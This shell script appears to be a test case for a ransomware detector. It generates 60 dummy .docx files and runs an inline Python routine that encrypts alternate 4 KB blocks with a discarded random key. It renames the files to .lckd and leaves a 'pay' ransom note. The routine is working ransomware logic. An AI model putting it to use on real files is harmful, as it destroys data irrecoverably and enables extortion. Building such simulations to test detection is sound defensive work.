#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/share && cd /srv/share
for i in $(seq 1 60); do seq 1 9000 >"report$i.docx"; done
python3 -c '
import glob, hashlib, os
key = os.urandom(32)
for path in glob.glob("/srv/share/*.docx"):
    fd = os.open(path, os.O_RDWR)
    size, at = os.fstat(fd).st_size, 0
    while at < size:
        block = os.pread(fd, 4096, at)
        stream = hashlib.shake_256(key + at.to_bytes(8, "big")).digest(len(block))
        os.pwrite(fd, bytes(a ^ b for a, b in zip(block, stream)), at)
        at += 8192
    os.close(fd)
    os.rename(path, path + ".lckd")
open("/srv/share/HOW_TO_RECOVER.txt", "w").write("pay")'
test "$(find . -name '*.lckd' | wc -l)" = 60
took_place
